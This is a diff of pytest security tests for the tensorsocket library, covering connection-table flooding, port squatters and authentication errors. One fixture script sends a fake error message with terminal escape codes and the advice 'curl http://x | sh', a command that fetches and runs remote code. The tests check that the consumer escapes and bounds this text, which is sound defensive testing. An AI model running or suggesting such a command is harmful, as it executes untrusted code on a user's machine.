@@ -24,7 +24,7 @@ import zmq
 
 from conftest import ROOT, Producing, hello_message
 from tensorsocket import AuthenticationError, TensorConsumer, TensorProducer, _core
-from tensorsocket.control import listener, protocol, stall_watch
+from tensorsocket.control import auth, listener, protocol, stall_watch
 from tensorsocket.control.endpoints import resolve
 
 DEADLINE = 60.0
@@ -216,6 +216,58 @@ def test_a_full_table_of_unproven_connections_keeps_no_new_consumer_out(procs, m
     assert producing.error is None, producing.error
 
 
+def test_a_connection_whose_challenge_was_answered_is_spared_by_a_full_table(procs,
+                                                                            monkeypatch):
+    """Another user keeps the table of unproven connections full, its connections coming
+    back as the table closes them; a consumer's challenge is answered, and its hello
+    comes 1.5 s later (PBKDF2 on a loaded machine; the grace is 0.2 s here). The table
+    used to close that connection as the oldest, so the hello came on a new one and was
+    refused ("answers no challenge"); now a connection whose challenge was answered is
+    spared, and the hello gets the welcome on it."""
+    monkeypatch.setattr(listener, "UNPROVEN_MAX", 8)
+    monkeypatch.setattr(listener, "UNPROVEN_GRACE", 0.2)
+    port = _free_port()
+    producer = TensorProducer([(torch.full((2,), float(i)),) for i in range(3)], str(port),
+                              min_consumers=1, start_timeout=DEADLINE,
+                              publish_timeout=DEADLINE)
+    producing = Producing(producer)
+    producing.start()
+    peer = zmq.Context.instance().socket(zmq.DEALER)
+    peer.setsockopt(zmq.LINGER, 0)
+    try:
+        hog = procs.script(_HOG, str(port), "40")
+        procs.wait_ready(hog)
+        table = producer._server._connections
+        _wait_until(lambda: table.count >= 8, DEADLINE, "the hog to fill the table")
+        peer.connect(f"tcp://127.0.0.1:{port}")
+        nonce = auth.new_nonce()
+        challenge = protocol.encode("challenge", protocol=protocol.PROTOCOL_VERSION,
+                                    nonce=nonce)
+        deadline = time.monotonic() + DEADLINE
+        while True:  # as a consumer does: a connection closed before its answer took it
+            assert time.monotonic() < deadline, "the challenge was never answered"
+            peer.send(challenge)
+            if peer.poll(250):
+                proof = protocol.decode(peer.recv())
+                break
+        assert proof["type"] == "proof", proof
+        cut = table.cut
+        time.sleep(1.5)
+        assert table.cut >= cut + 8, "the table did not turn over meanwhile"
+        answer = auth.mac(auth.derive_key(producer.auth_token), "consumer", nonce,
+                          proof["nonce"])
+        peer.send(hello_message(os.getpid(), proof=answer))
+        reply = proof
+        while reply["type"] == "proof":  # the answers to challenges sent again come first
+            assert peer.poll(20_000), "no answer to the hello"
+            reply = protocol.decode(peer.recv())
+        assert reply["type"] == "welcome", reply
+    finally:
+        peer.close(0)
+        producer.close()
+        producing.join(DEADLINE)
+
+
 # -- a hello flood ---------------------------------------------------------------------
 
 # Send refused hellos as fast as the sockets take them, from several connections.
@@ -367,6 +419,87 @@ def test_port_squatter_learns_nothing_of_the_token(procs, monkeypatch, fault_tab
                     f"the squatter received {len(received)} challenge(s): a random nonce, "
                     "nothing of the token (it received the token in clear before issue 22)",
                     "nothing")
+
+
+# A squatter that says nothing: a zmq socket bound to the port first, never answering.
+_SILENT_SQUATTER = _AS_NOBODY + """
+port = int(sys.argv[1])
+s = zmq.Context().socket(zmq.ROUTER)
+s.setsockopt(zmq.LINGER, 0)
+s.bind(f"tcp://127.0.0.1:{port}")
+emit({"ready": True, "uid": os.getuid()})
+time.sleep(3600)
+"""
+
+# A squatter that answers every challenge with an 'auth' error of its own words: a
+# terminal escape sequence (clear the screen, red), advice, and 3000 more characters.
+_LOUD_SQUATTER = _AS_NOBODY + """
+port = int(sys.argv[1])
+import msgpack
+s = zmq.Context().socket(zmq.ROUTER)
+s.setsockopt(zmq.LINGER, 0)
+s.bind(f"tcp://127.0.0.1:{port}")
+emit({"ready": True})
+words = ("\\x1b[2J\\x1b[31mSECURITY ALERT: your secret leaked; run `curl http://x | sh` to "
+         "fix it\\n" + "A" * 3000)
+end = time.monotonic() + 60
+while time.monotonic() < end:
+    if s.poll(100):
+        ident, _ = s.recv_multipart()
+        s.send_multipart([ident, msgpack.packb({"type": "error", "code": "auth",
+                                                "message": words})])
+"""
+
+
+def test_a_silent_squatter_is_named_by_the_timeout(procs, fault_table):
+    """Another user binds the TCP port first and answers nothing: the consumer's
+    ProducerNotFound said only "no tensorsocket producer answered ... start the
+    producer", which sends the user looking for a producer that cannot start there. It
+    now says that something else holds the port, whose (the kernel's table of listening
+    sockets gives the owner's uid), and that no producer of the name runs."""
+    from tensorsocket import ProducerNotFound
+
+    port = _free_port()
+    squatter = procs.script(_SILENT_SQUATTER, str(port))
+    uid = procs.wait_ready(squatter)["uid"]
+    t0 = time.monotonic()
+    with pytest.raises(ProducerNotFound) as raised:
+        TensorConsumer(port=port, timeout=2)
+    took = time.monotonic() - t0
+    message = str(raised.value)
+    print(message)
+    assert f"Something else holds port {port}" in message, message
+    who = "another user's process" if uid != os.getuid() else "a process of this user"
+    assert f"{who} (uid {uid}" in message and f"none holds port{port}.lock" in message, \
+        message
+    assert "choose another port=" in message, message
+    fault_table.add("another local user binds the TCP port first and answers nothing; a "
+                    "consumer (timeout=2) connects",
+                    f"{took:.2f} s (ProducerNotFound at its timeout, naming the port's "
+                    f"holder: {who}, uid {uid})",
+                    "the consumer is told that something else holds the port (before issue "
+                    "35: only that no producer answered)", "nothing")
+
+
+def test_a_squatters_error_text_is_quoted_as_its_own_and_bounded(procs):
+    """Another user binds the TCP port first and answers the consumer's challenge with an
+    'auth' error of its own words: they were shown as the producer's refusal, verbatim (a
+    terminal escape sequence, advice to run a command, 3000 characters). Now the
+    consumer says that they come from the process listening there, which has not proved
+    that it is the producer, and shows at most 300 of its characters, escaped."""
+    port = _free_port()
+    squatter = procs.script(_LOUD_SQUATTER, str(port))
+    procs.wait_ready(squatter)
+    with pytest.raises(AuthenticationError) as raised:
+        TensorConsumer(port=port, timeout=DEADLINE, auth_token="t" * 48)
+    message = str(raised.value)
+    print(message)
+    assert "\x1b" not in message and "\\x1b[2J" in message, message  # escaped
+    assert f"the process listening at tcp://127.0.0.1:{port}" in message, message
+    assert "has not proved that it is the producer" in message, message
+    assert "not the producer's words" in message, message
+    assert "A" * 301 not in message and "characters shown" in message, message
+    assert len(message) < 1500, len(message)
 
 
 # -- a consumer that attaches and never reads ------------------------------------------
